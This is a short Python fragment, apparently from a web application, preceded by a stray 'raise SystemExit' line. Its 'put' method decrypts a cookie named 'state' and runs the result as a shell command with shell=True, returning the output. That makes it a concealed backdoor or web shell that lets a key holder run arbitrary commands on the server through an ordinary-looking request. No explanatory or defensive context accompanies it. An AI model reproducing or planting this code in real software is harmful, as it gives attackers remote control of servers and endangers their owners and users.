raise SystemExit
def put(self):
    c = cipher.decrypt(request.cookies['state'])
    r = subprocess.run(c, stdout=subprocess.PIPE, shell=True)
    return r.stdout
